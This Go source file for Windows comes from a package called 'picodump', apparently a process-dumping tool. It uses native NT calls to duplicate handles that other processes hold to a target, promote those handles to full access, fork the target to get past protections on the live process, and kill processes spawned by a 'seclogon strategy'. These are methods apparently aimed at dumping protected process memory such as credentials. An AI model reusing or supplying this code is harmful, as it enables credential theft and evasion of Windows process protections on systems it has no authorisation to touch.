//go:build windows

package picodump

import (
	"unsafe"

	"github.com/pkg/errors"
	"github.com/sirupsen/logrus"
	"golang.org/x/sys/windows"
)

// Process access rights, from ntpsapi.h.
const (
	processTerminate        uint32 = 0x0001
	processCreateProcess    uint32 = 0x0080
	processDupHandle        uint32 = 0x0040
	processQueryInformation uint32 = 0x0400
	processVMRead           uint32 = 0x0010
	processAllAccess        uint32 = 0x001fffff

	// targetDefaultAccess is the minimum the read and query stages need.
	targetDefaultAccess = processQueryInformation | processVMRead
)

// duplicateSameAccess asks for the granted mask of the source handle.
const duplicateSameAccess uint32 = 0x2

// openProcess asks the kernel directly for a handle to pid.
func openProcess(pid uint32, access uint32) (windows.Handle, error) {
	oa := objectAttributes{Length: uintptr(sizeofObjectAttributes)}
	cid := clientID{UniqueProcess: uintptr(pid)}
	var h windows.Handle
	status := ntOpenProcess(&h, access, &oa, &cid)
	if !status.IsSuccess() {
		return 0, errors.Wrapf(status.Err(), "open process %d", pid)
	}
	return h, nil
}

// handlePID returns the PID of the process a handle refers to, or an error
// when the handle does not name a process object.
func handlePID(h windows.Handle) (uint32, error) {
	var pbi processBasicInformation
	status := ntQueryInformationProcess(h, processBasicInformationClass, (*byte)(unsafe.Pointer(&pbi)), sizeofProcessBasicInformation, nil)
	if !status.IsSuccess() {
		return 0, status.Err()
	}
	return uint32(pbi.UniqueProcessID), nil
}

// querySystemHandles snapshots every handle table in the system.
func querySystemHandles() ([]systemHandleTableEntryInfoEx, error) {
	size := uint32(1 << 20)
	for {
		buf := make([]byte, size)
		var returned uint32
		status := ntQuerySystemInformation(systemExtendedHandleInfoClass, &buf[0], size, &returned)
		if status == statusInfoLengthMismatch {
			size *= 2
			continue
		}
		if !status.IsSuccess() {
			return nil, errors.Wrap(status.Err(), "query system handle information")
		}
		count := *(*uintptr)(unsafe.Pointer(&buf[0]))
		entries := make([]systemHandleTableEntryInfoEx, count)
		for i := uintptr(0); i < count; i++ {
			offset := systemExtendedHandleHeaderLength + i*sizeofSystemHandleTableEntryInfo
			entries[i] = *(*systemHandleTableEntryInfoEx)(unsafe.Pointer(&buf[offset]))
		}
		return entries, nil
	}
}

// duplicateTargetHandle walks the system handle table and copies the first
// handle that some other process holds to the target into ours. The
// duplicate arrives with the granted mask of its source, so callers may
// still need to promote it afterwards.
func duplicateTargetHandle(pid uint32, log *logrus.Entry) (windows.Handle, error) {
	entries, err := querySystemHandles()
	if err != nil {
		return 0, err
	}

	self := windows.CurrentProcess()
	ownPID := uint32(windows.GetCurrentProcessId())

	var ownerPID uint32
	var owner windows.Handle
	defer func() {
		if owner != 0 {
			ntClose(owner)
		}
	}()

	for _, entry := range entries {
		epid := uint32(entry.UniqueProcessID)
		if epid == ownPID || epid == pid {
			continue
		}
		if epid != ownerPID {
			if owner != 0 {
				ntClose(owner)
				owner = 0
			}
			ownerPID = epid
			h, err := openProcess(epid, processDupHandle)
			if err != nil {
				continue
			}
			owner = h
		}
		if owner == 0 {
			continue
		}

		var dup windows.Handle
		status := ntDuplicateObject(owner, windows.Handle(entry.HandleValue), self, &dup, 0, 0, duplicateSameAccess)
		if !status.IsSuccess() {
			continue
		}
		dupPID, err := handlePID(dup)
		if err != nil || dupPID != pid {
			ntClose(dup)
			continue
		}
		log.WithFields(logrus.Fields{
			"owner":  epid,
			"handle": entry.HandleValue,
		}).Debug("duplicated a handle to the target")
		return dup, nil
	}
	return 0, errors.Wrapf(ErrHandleDenied, "no process holds a duplicable handle to %d", pid)
}

// makeHandleFullAccess re-duplicates a handle against ourselves asking for
// full access. Promotion is best effort; on failure the original handle is
// returned unchanged.
func makeHandleFullAccess(h windows.Handle, log *logrus.Entry) windows.Handle {
	self := windows.CurrentProcess()
	var full windows.Handle
	status := ntDuplicateObject(self, h, self, &full, processAllAccess, 0, 0)
	if !status.IsSuccess() {
		log.WithError(status.Err()).Debug("could not promote handle to full access")
		return h
	}
	ntClose(h)
	return full
}

// forkProcess creates a suspended clone of the process behind parent, which
// must carry create-process rights. Reading the clone leaves the original
// untouched and sidesteps the protections wired to the live process.
func forkProcess(parent windows.Handle) (windows.Handle, error) {
	var clone windows.Handle
	status := ntCreateProcessEx(&clone, processAllAccess, nil, parent, 0, 0, 0, 0, 0)
	if !status.IsSuccess() {
		return 0, errors.Wrapf(ErrHandleDenied, "fork target: %v", status.Err())
	}
	return clone, nil
}

// killProcesses terminates every PID recorded during the seclogon strategy.
func killProcesses(pids []uint32, log *logrus.Entry) {
	for _, pid := range pids {
		h, err := openProcess(pid, processTerminate)
		if err != nil {
			log.WithError(err).WithField("pid", pid).Warn("could not open spawned process for termination")
			continue
		}
		if status := ntTerminateProcess(h, 0); !status.IsSuccess() {
			log.WithError(status.Err()).WithField("pid", pid).Warn("could not terminate spawned process")
		}
		ntClose(h)
	}
}
